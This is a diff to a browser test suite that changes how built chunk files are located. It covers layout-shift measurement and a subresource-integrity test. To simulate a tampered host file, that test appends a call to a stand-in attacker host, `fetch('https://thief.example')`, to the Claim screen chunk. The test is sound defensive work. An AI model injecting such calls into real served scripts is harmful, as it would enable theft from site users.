@@ -318,7 +318,7 @@ describe.skipIf(!hasBrowser)('the application in a browser', () => {
           Reflect.set(globalThis, '__shifted', Reflect.get(globalThis, '__shifted') + Reflect.get(entry, 'value'))
       }).observe({ type: 'layout-shift', buffered: true })
     })
-    const screen = await holdAnswers(page, '**/assets/SendScreen*', () => true)
+    const screen = await holdAnswers(page, `**/${served.fileOf('src/screens/send/SendScreen.tsx')}`, () => true)
     await page.goto(served.origin)
     await page.getByText('Loading…').waitFor()
     await screen.release()
@@ -329,7 +329,8 @@ describe.skipIf(!hasBrowser)('the application in a browser', () => {
   })
 
   test('a chunk that was changed on the host does not run, and the page says so', async () => {
-    served.tamper(/assets\/ClaimScreen/, (text) => `${text}\nfetch('https://thief.example')`)
+    const file = new RegExp(served.fileOf('src/screens/claim/ClaimScreen.tsx'))
+    served.tamper(file, (text) => `${text}\nfetch('https://thief.example')`)
     const { page, complaints, allow } = await browser.open()
     allow(/integrity|dynamically imported module/)
     await page.goto(`${served.origin}/#/claim`)
